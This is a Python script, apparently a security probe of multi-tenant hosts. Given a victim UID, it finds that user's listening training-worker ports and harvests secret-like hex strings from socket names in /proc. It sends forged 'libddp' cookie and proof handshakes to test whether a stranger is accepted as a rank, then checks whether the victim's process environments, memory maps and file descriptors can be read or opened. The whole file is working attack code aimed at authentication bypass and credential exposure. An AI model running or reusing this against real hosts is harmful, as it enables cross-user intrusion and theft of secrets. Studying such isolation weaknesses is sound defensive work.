# other_user.py UID: what another user of a host can do to the workers of user UID with
# what the kernel shows to everybody: the names of sockets and the ports that are
# listened to. Says on each port what a rank would say, with all that it can know,
# and prints what came of it. The last line is "N ports, M names".
import concurrent.futures
import glob
import os
import re
import socket
import struct
import sys

victim = int(sys.argv[1])


def listening():
    """Ports of the victim that are listened to."""
    ports = set()
    for path in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(path) as f:
            for line in f.readlines()[1:]:
                at = line.split()
                if at[3] == "0A" and int(at[7]) == victim:
                    ports.add(int(at[1].split(":")[1], 16))
    return sorted(ports)


def names():
    """What the names of the job's sockets could be made of: 16 bytes in hex."""
    with open("/proc/net/unix") as f:
        found = set(re.findall(r"@ddp\S*?([0-9a-f]{32})", f.read()))
    return [bytes.fromhex(name) for name in sorted(found)]


def say(port, *messages):
    """What is answered to each of them in turn, until it is hung up on."""
    answers = []
    try:
        with socket.create_connection(("127.0.0.1", port), 5) as s:
            s.settimeout(1.5)
            for m in messages:
                s.sendall(m(answers) if callable(m) else m)
                try:
                    got = s.recv(4096)
                except socket.timeout:
                    got = None  # it neither answers nor hangs up
                answers.append(got)
                if not got:
                    break
    except OSError:
        pass
    return answers or [None]


def say_cookie(port, magic, secret, who):
    """As libddp 0.3 did: the cookie itself."""
    hello = magic + secret + struct.pack("=3I2H", *who)
    if (say(port, hello)[0] or b"")[:8] == magic:
        print(f"port {port} took the cookie of a name: {magic.decode()}")


def say_proof(port, magic, proof, who):
    call = magic + struct.pack("=3I2HI", *who, 0) + bytes(16)
    got = say(port, call, proof, b"\0" * 64)
    if (got[0] or b"")[:8] != magic:
        return
    print(f"port {port} answers {magic.decode()}")
    if len(got) < 2 or got[1] != b"":
        print(f"port {port} took a stranger for a rank")


def own_mac(answers):
    return answers[0][-32:]


def attempts(ports, secrets):
    """Each attempt as (function, arguments...)."""
    for port in ports:
        for who in ((0, 0, 3, 0, 0), (0, 1, 0, 0, 2)):
            for secret in secrets:
                for magic in (b"ddpp2p_1", b"ddpmesh2"):
                    yield say_cookie, port, magic, secret, who
            for magic in (b"ddpp2p_3", b"ddpmesh4"):
                for proof in (bytes(32), own_mac):
                    yield say_proof, port, magic, proof, who


def memory():
    """Memory that ranks share, and what they know."""
    for path in glob.glob("/proc/[0-9]*"):
        try:
            if os.stat(path).st_uid == victim:
                for part in ("environ", "maps"):
                    open(f"{path}/{part}").read(1)
                    print(f"{path}/{part} can be read")
                for fd in os.listdir(f"{path}/fd"):
                    os.open(f"{path}/fd/{fd}", os.O_RDWR)
                    print(f"{path}/fd/{fd} can be opened")
        except OSError:
            pass


secrets = names()
ports = listening()
with concurrent.futures.ThreadPoolExecutor(64) as pool:
    list(pool.map(lambda a: a[0](*a[1:]), attempts(ports, secrets)))
memory()
print(f"{len(ports)} ports, {len(secrets)} names")
